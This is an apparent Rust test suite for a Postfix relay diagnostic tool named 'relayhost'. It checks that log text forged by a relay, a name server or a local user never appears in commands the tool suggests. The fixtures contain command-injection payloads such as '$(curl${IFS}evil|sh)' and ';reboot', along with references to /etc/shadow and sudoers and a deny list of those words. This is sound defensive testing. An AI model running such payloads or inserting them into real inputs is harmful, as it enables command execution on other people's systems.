//! A stranger's words never become a command: what a relay says before TLS and after the login, and what any local user
//! writes to the log, is read as whose it is, and is in no command that root is told to type.

use serde_json::Value;

use crate::host::{AUTHENTICATED, Host, Run, host, read};

/// What a daemon of this host might write, with what nobody should type, and the cause that it would be for.
const ATTACKS: [(&str, &str); 4] = [
    ("unable to dlopen $(curl${IFS}evil|sh): x", "sasl-plugin-broken"),
    ("warning: /etc/postfix/main.cf: unused parameter: x;curl${IFS}evil|sh=y", "parameter-unknown"),
    ("fatal: open /etc/shadow;reboot/main.cf: Permission denied", "main-cf-unreadable"),
    (
        "[sasl-xoauth2] x: TokenStore::Read: failed to open file /etc/sudoers.d/evil: Permission denied",
        "oauth-token-unreadable",
    ),
];

/// Nothing of an attack is in a command: neither between backquotes nor in a remedy outside of quotes.
#[track_caller]
fn no_command_has(text: &str) {
    for command in text.split('`').skip(1).step_by(2) {
        for evil in ["evil", "reboot", "shadow", "sudoers", "curl", "$(curl"] {
            assert!(!command.contains(evil), "`{command}`\n{text}");
        }
    }
}

/// Every `id` of a cause in a document, and whatever is said with it.
fn causes(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            if let (Some(Value::String(id)), Some(Value::String(remedy))) = (map.get("id"), map.get("remedy"))
            {
                no_command_has(remedy);
                found.push(id.clone());
            }
            for text in ["cause", "text"].iter().filter_map(|name| map.get(*name)?.as_str()) {
                no_command_has(text);
            }
            map.values().for_each(|value| causes(value, found));
        }
        Value::Array(list) => list.iter().for_each(|value| causes(value, found)),
        _ => {}
    }
}

/// Asks everything that may tell what this relay said.
fn asked(host: Host) -> Run {
    host.sh("exec 2>&1
        echo '== probe'; relayhost probe; echo '== apply'; relayhost apply
        relayhost apply --no-verify >/dev/null
        echo '== verify'; relayhost verify --deadline 15s; echo '== diagnose'; relayhost diagnose
        echo '== probe-json'; relayhost probe --json 2>/dev/null
        echo '== verify-json'; relayhost verify --json --deadline 15s 2>/dev/null
        echo '== diagnose-json'; relayhost diagnose --json 2>/dev/null
        echo '== log'; cat /var/log/maillog")
}

#[test]
fn a_relay_cannot_speak_for_this_host() {
    assert!(read(AUTHENTICATED).contains("tls  = \"secure\""));
    for (attack, cause) in ATTACKS {
        // Before TLS, and after the login.
        std::thread::scope(|scope| {
            scope.spawn(|| said(attack, cause, "CONNECT 554", "greeting-refused"));
            scope.spawn(|| said(attack, cause, "RCPT/ops@/ 550 5.1.1", "recipient-refused"));
        });
    }
}

/// A relay says this at that stage, and everybody names what the relay may be named for.
#[track_caller]
fn said(attack: &str, cause: &str, stage: &str, own: &str) {
    let run = asked(host().answers(AUTHENTICATED).replies(&format!("{stage} {attack}\n")));
    // Postfix has logged it, whole.
    assert!(run.part("log").contains(attack), "{}", run.stdout);
    for part in ["probe", "apply", "verify", "diagnose"] {
        let text = run.part(part);
        no_command_has(text);
        assert!(!text.contains(cause) && text.contains(own), "{part}: {text}");
    }
    for part in ["probe-json", "verify-json", "diagnose-json"] {
        let mut found = Vec::new();
        causes(&run.json(part), &mut found);
        assert!(found.iter().any(|id| id == own) && !found.iter().any(|id| id == cause), "{part}: {found:?}");
    }
}

#[test]
fn what_any_user_writes_to_the_log_is_in_no_command() {
    for (attack, cause) in ATTACKS {
        let record = "1A2B3C4D5E: to=<ops@example.com>, relay=smtp.example.com[192.0.2.1]:587, delay=1, delays=0/0/1/0, dsn=4.7.0, status=deferred (SASL authentication failed; cannot authenticate to server smtp.example.com[192.0.2.1]: generic failure)";
        let script = format!(
            "exec 2>&1; relayhost apply --no-verify >/dev/null
             cat >/tmp/lines <<'END'\n{attack}\n{record}\nEND
             chmod 644 /tmp/lines
             setpriv --reuid 65534 --regid 65534 --clear-groups -- logger --id=4242 -p mail.info -t postfix/smtp -f /tmp/lines
             await grep -q 1A2B3C4D5E /var/log/maillog
             echo '== log'; cat /var/log/maillog; echo '== diagnose'; relayhost diagnose
             echo '== story'; relayhost diagnose --queue-id 1A2B3C4D5E
             echo '== file'; cp /var/log/maillog /tmp/log; relayhost diagnose /tmp/log
             echo '== json'; relayhost diagnose --json 2>/dev/null"
        );
        let run = host().answers(AUTHENTICATED).sh(&script);
        assert!(run.part("log").contains(attack), "{}", run.stdout);
        for part in ["diagnose", "story", "file"] {
            let text = run.part(part);
            no_command_has(text);
            // It is named, since nobody can tell that the line is forged; and the remedy has a word in its place.
            assert!(text.contains(cause) || part == "story", "{part}: {text}");
        }
        let json = run.json("json");
        let mut found = Vec::new();
        causes(&json, &mut found);
        assert!(found.iter().any(|id| id == cause), "{json:#}");
        let text = run.part("json");
        assert!(
            text.contains("FILE is not filled in: ") || text.contains("PARAMETER is not filled in: "),
            "{text}"
        );
    }
}

/// A name server may put any bytes into a name; Postfix logs them, and the probe connects to names that are some.
#[test]
fn a_name_server_cannot_speak_for_this_host() {
    let (attack, cause) = ATTACKS[0];
    let script = format!(
        "exec 2>&1; relayhost apply --no-verify >/dev/null
         postconf -e relayhost=odd.lab.test:587; touch -d '-5 seconds' /etc/postfix/main.cf; postfix reload
         python3 /lab/tests/lab/scripts/evil_mx.py 127.0.0.9 '{attack}' & trap \"kill $!\" EXIT
         echo 'nameserver 127.0.0.9' >/etc/resolv.conf; sleep 0.5
         echo '== probe'; relayhost probe --current
         echo x | sendmail ops@example.com; for i in {{1..80}}; do grep -q status= /var/log/maillog && break; sleep 0.1; done
         echo '== log'; cat /var/log/maillog; echo '== diagnose'; relayhost diagnose"
    );
    let run = host().answers(AUTHENTICATED).sh(&script);
    // The C library writes `\032` for a blank in a name.
    assert!(
        run.part("log").contains(r"unable\032to\032dlopen") && run.part("log").contains("status="),
        "{}",
        run.stdout
    );
    for part in ["probe", "diagnose"] {
        no_command_has(run.part(part));
        assert!(!run.part(part).contains(cause), "{}", run.stdout);
    }
    assert!(run.part("probe").contains("dns-malformed"), "{}", run.stdout);
}
